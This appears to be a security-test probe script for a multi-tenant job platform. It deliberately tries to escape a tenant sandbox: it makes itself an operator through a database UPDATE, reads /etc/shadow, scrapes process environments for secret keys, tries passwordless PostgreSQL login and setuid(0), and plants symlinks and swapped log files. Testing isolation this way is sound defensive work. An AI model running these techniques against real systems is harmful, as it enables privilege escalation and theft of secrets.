"""The attacker's job: a standalone program (the system's python3, standard library only) that the tenant's job
runs inside the factory, on either backend. It tries everything a tenant should never manage and writes, to
``attack.json`` in its working directory, what it could and could not do. The test (tests/security) sends this
file's text as the job's command and fetches the result as an artifact.

An attempt "succeeded" only when the harm happened (the database's header read, a row changed, a file created
where it must not be, a secret seen); anything else is recorded with the error it met. The controls show that
the probe itself works (it can write its own folder). Its targets come in the ``ATTACK`` environment variable
(JSON): the database file, the data folder, the other project's job folder and log, the server's pid and its
package folder, the PostgreSQL port, the tenant's e-mail (its own folder is the parent of its working
directory). It never learns the secrets it looks for: the test checks that they appear nowhere in what it wrote."""

from __future__ import annotations

import json
import os
import socket
import sqlite3
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

T: dict[str, Any] = json.loads(os.environ["ATTACK"])
RESULTS: list[dict[str, Any]] = []
SEEN: list[str] = []  # everything readable that looked like the server's environment


def attempt(name: str, harm: Callable[[], object]) -> None:
    """Run one attempt: ``harm`` returns what it achieved, or raises when it could not."""
    try:
        detail = harm()
    except BaseException as exc:  # noqa: BLE001 - every failure is a result
        RESULTS.append({"name": name, "succeeded": False, "detail": f"{type(exc).__name__}: {exc}"[:300]})
    else:
        RESULTS.append({"name": name, "succeeded": True, "detail": str(detail)[:300]})


def need(condition: bool, why: str) -> None:
    if not condition:
        raise RuntimeError(why)


def write_database() -> str:
    conn = sqlite3.connect(f"file:{T['database']}?mode=rw", uri=True, timeout=2)
    try:  # the original exploit: make oneself an operator
        changed = conn.execute("UPDATE users SET is_operator = 1 WHERE email = ?", (T["email"],)).rowcount
        conn.commit()
    finally:
        conn.close()
    need(changed == 1, f"{changed} rows changed")
    return "made itself an operator"


def open_for_writing(path: str) -> str:
    with open(path, "ab"):  # opening is enough: nothing is written
        return f"opened {path} for writing"


def listing(path: str, harmless: set[str]) -> str:
    names = set(os.listdir(path)) - harmless
    need(bool(names), "nothing of the factory listed")
    return f"listed {sorted(names)[:10]}"


def create(path: str) -> str:
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    os.close(fd)
    return f"created {path}"


def read(path: str) -> str:
    data = Path(path).read_bytes()
    need(bool(data), "empty")
    return f"read {len(data)} bytes of {path}"


def server_environ() -> str:
    data = Path(f"/proc/{T['server_pid']}/environ").read_bytes()
    need(b"AIFACTORY_" in data, "not the server's environment")
    return "read the server's environment"


def read_database(path: str) -> str:
    head = Path(path).read_bytes()[:16]
    need(head.startswith(b"SQLite format 3"), f"not the database: {head!r}")
    return f"read the database through {path}"


def secret_key() -> str:
    """Any readable process environment or command line that carries the factory's settings."""
    for proc in Path("/proc").iterdir():
        for part in ("environ", "cmdline"):
            try:
                data = (proc / part).read_bytes()
            except OSError:
                continue
            for item in data.split(b"\0"):
                if item.startswith(b"AIFACTORY_SECRET_KEY=") or item.startswith(b"AIFACTORY_DATABASE_URL="):
                    SEEN.append(item.decode(errors="replace"))
    mine = [f"{k}={v}" for k, v in os.environ.items() if k.startswith("AIFACTORY_")]
    SEEN.extend(mine)
    need(bool(SEEN), "no AIFACTORY_ setting readable")
    return f"{len(SEEN)} settings seen"


def signal_server() -> str:
    cmdline = Path(f"/proc/{T['server_pid']}/cmdline").read_bytes()
    need(b"aifactory" in cmdline, "that pid is not the server here")
    os.kill(int(T["server_pid"]), 0)  # signal 0: the right to signal it, without harm
    return "may signal the server"


def postgres() -> str:
    """PostgreSQL's startup message as the superuser: authenticated without a password means trust."""
    with socket.create_connection(("127.0.0.1", int(T["pg_port"])), timeout=3) as sock:
        params = b"user\0postgres\0database\0postgres\0\0"
        sock.sendall(struct.pack("!ii", 8 + len(params), 196608) + params)
        kind, _, code = struct.unpack("!cii", sock.recv(9))
        need(kind == b"R" and code == 0, f"not let in: {kind!r} {code}")
    return "authenticated as postgres without a password"


def become_root() -> str:
    os.setuid(0)
    need(os.getuid() == 0, "still not root")
    return "setuid(0)"


def hardlink(target: str, name: str) -> str:
    os.link(target, name)
    return f"hard link {name} -> {target}"


def plant_links() -> None:
    """Symlinks and hard links in its own folder that the server must never follow nor serve."""
    Path("etc").mkdir(exist_ok=True)
    links = {
        "db-link": T["database"],
        "shadow-link": "/etc/shadow",
        "victim-link": T["victim_file"],
        "victim-dir": str(Path(T["victim_file"]).parent),
        "data-link": T["data"],
        "etc/passwd": "/etc/passwd",
    }
    for name, target in links.items():
        os.symlink(target, name)
    attempt("hardlink-database", lambda: hardlink(T["database"], "db-hard"))
    attempt("hardlink-shadow", lambda: hardlink("/etc/shadow", "shadow-hard"))
    attempt("hardlink-victim", lambda: hardlink(T["victim_file"], "victim-hard"))


def attacks() -> None:
    db, data, victim = T["database"], T["data"], T["victim_folder"]
    attempt("database-read", lambda: read_database(db))
    attempt("database-write", write_database)
    attempt("database-open-for-writing", lambda: open_for_writing(db))
    attempt("database-wal-open-for-writing", lambda: open_for_writing(db + "-wal"))
    attempt("database-via-proc-root", lambda: read_database(f"/proc/{T['server_pid']}/root{db}"))  # the server's view
    attempt("data-dir-list", lambda: listing(data, {"jobs"}))
    attempt("data-dir-write", lambda: create(f"{data}/pwned"))
    attempt("logs-list", lambda: listing(f"{data}/logs", set()))
    attempt("jobs-root-list", lambda: listing(f"{data}/jobs", {Path.cwd().parent.name}))
    attempt("other-project-read", lambda: read(T["victim_file"]))
    attempt("other-project-log-read", lambda: read(T["victim_log"]))
    attempt("other-project-list", lambda: listing(victim, set()))
    attempt("other-project-write", lambda: create(f"{victim}/work/pwned"))
    attempt("server-environ", server_environ)
    attempt("server-cmdline-and-environ-secrets", secret_key)
    attempt("server-signal", signal_server)
    attempt("server-code-write", lambda: create(f"{T['package']}/pwned.py"))
    attempt("server-code-open-for-writing", lambda: open_for_writing(f"{T['package']}/__init__.py"))
    attempt("postgresql-trust", postgres)
    attempt("etc-shadow-read", lambda: read("/etc/shadow"))
    attempt("etc-passwd-write", lambda: open_for_writing("/etc/passwd"))
    attempt("become-root", become_root)
    plant_links()


def swap_logs() -> list[str]:
    """Replace its own log files with links to the database and the other project's file (read as logs later)."""
    swapped = []
    for name in os.listdir(".."):
        if name.endswith(".log") and name.startswith(("stdout-", "stderr-")):
            target = T["database"] if name.startswith("stdout-") else T["victim_file"]
            os.replace(_link_beside(f"../{name}", target), f"../{name}")
            swapped.append(name)
    return swapped


def _link_beside(path: str, target: str) -> str:
    temporary = f"{path}.swap"
    os.symlink(target, temporary)
    return temporary


def main() -> None:
    controls = {"own-folder-write": False, "uid": os.getuid(), "gid": os.getgid()}
    Path("own.txt").write_text("mine\n")
    controls["own-folder-write"] = Path("own.txt").read_text() == "mine\n"
    print("probe starting", flush=True)
    attacks()
    controls["logs-swapped"] = swap_logs()
    report = {"attempts": RESULTS, "seen": SEEN, "controls": controls}
    Path("attack.json").write_text(json.dumps(report, indent=1))


if __name__ == "__main__":
    main()
